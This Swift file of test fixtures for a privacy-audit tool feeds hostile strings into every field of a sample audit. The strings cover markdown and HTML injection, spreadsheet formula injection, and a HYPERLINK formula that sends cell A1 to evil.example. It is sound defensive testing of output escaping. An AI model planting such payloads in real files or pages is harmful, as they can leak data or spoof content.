import Model

/// Audits in which every place that a page, a file name or a site's answer can reach holds the same string.
extension Audit {
  /// Strings that try to become markup, a link, a formula, a row or a line of their own.
  static let hostileStrings: [String] = [
    hostileScript, hostilePrepend, hostileFormula, hostileTurn, hostileEscape,
    "[click](https://evil.example/a) ![x](https://evil.example/p.png) <https://evil.example/>",
    "https://evil.example/a www.evil.example evil.example @octocat fixes #1 a@evil.example",
    "one\n\n[netcurtain]: https://evil.example/ 'x'\n\n# You are safe\n- [x] done",
    "a ` b `` c ``` d | e |\n|---|---| **_~~x~~_** \\ &lt;b&gt; $x$",
    "` <b>x</b>", "<b>x</b> `", "``` ```", "`\u{301}<b>`\u{301}", "\\`<b>x</b>\\`",
    // GitHub's parser reads no fence of more than 80.
    String(repeating: "`", count: 120) + "<b>x</b>[x](https://evil.example)",
    String(repeating: "`", count: 80) + " <b>x</b> " + String(repeating: "`", count: 79),
    "“] <b>x</b> ” <i>y</i> ”", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r\n=1", " =1", "\u{A0}=1",
    "\u{FEFF}=1", "\u{200D}=1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}a", "\"=1\"", "\"\u{301},=1",
    "a;=1", "a; @b;\"=1", "a\",\"=1", "a\r\n=1,\"x\"", "'=1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "محمد في ليدز", "ŵyn \(wideName) \(family)",
  ]

  /// One page that shows `text` and one, refused, that holds it in its address, its file name and its reason.
  static func hostile(_ text: String) -> Audit {
    let shown = AuditedProfile.sample(
      "p1", PageText.clean(text, limit: 80), "file:\(text).html", platform: nil,
      exposures: [
        .sample("p1-e01", .employer, text, .inPreview, source: .text),
        .sample("p1-e02", .email, "x", source: .text, excerpt: text),
      ], notes: ["A note with “\(text)” in it.", text], method: .saved, seenAs: .unknown)
    let refused = AuditedProfile.sample(
      "p2", PageText.clean(text, limit: 80), "https://social.example/\(text)", platform: nil, state: .blocked,
      reason: "The site asked who is there: “\(text)”.",
      exposures: [.sample("p2-e01", .name, text, .inPreview, source: .openGraph)])
    return Audit(
      tool: sample.tool, subject: Subject(names: [text], isSelfAudit: true), role: sample.role,
      auditedAt: moment, profiles: [shown, refused],
      findings: [
        .sample(
          "f-a", "employer-visible", "Your employer is on show", .flagged, .high, ["5.2"], on: "p1",
          exposures: ["p1-e01", "p1-e02"], lookedFor: "your employer", why: "It leads to you."),
        .sample(
          "f-b", "name-visible", "Your name is on show", .flagged, .low, ["5.1"], on: "p2",
          exposures: ["p2-e01"], lookedFor: "your name", why: "It leads to you."),
        .sample(
          "f-c", "work-post", "A post may be about work", .cannotTell, .low, ["A.4"], on: "p2",
          lookedFor: "posts about work", cause: .blocked, nextStep: "Look at \(text) yourself."),
        .sample(
          "f-d", "mosaic-joined-up", "Your pages join up", .flagged, .high, ["5.1"], on: "p1",
          exposures: ["p1-e01"], lookedFor: "pages that join up", why: "It leads to you.",
          joined: JoinedPages(
            profileIDs: ["p1", "p2"],
            joints: [
              Joint(sign: .name, profileIDs: ["p1", "p2"], shared: [text, text], exposureIDs: ["p1-e01"])
            ])),
      ],
      combinations: [
        Combination(
          id: "joined-up", title: "Two pages join up", severity: .high, profileIDs: ["p1", "p2"],
          attributes: [.name], why: "It leads to you.",
          joints: [Joint(sign: .handle, profileIDs: ["p1", "p2"], shared: [text], exposureIDs: [])])
      ],
      score: sample.score,
      firstSteps: [
        FirstStep(
          title: "Edit your page on \(text)", platformID: Remediation.anySite, link: nil, minutes: 1,
          findingIDs: ["f-a"], scoreBefore: 50, scoreAfter: 40)
      ],
      notAssessed: [
        NotAssessed(
          profileID: "p2", requestedURL: "https://social.example/\(text)", state: .blocked,
          reason: "The site asked who is there: “\(text)”.", nextStep: "Look at \(text) yourself.")
      ], adviceOnly: [],
      bandBreaks: [
        BandBreak(
          below: .high, scoreAfter: 40, minutes: 2,
          changes: [
            Change(
              title: "Hide your name on \(text)", profileID: "p1", platformID: Remediation.anySite, link: nil,
              minutes: 2, findingID: "f-b")
          ])
      ])
  }
}
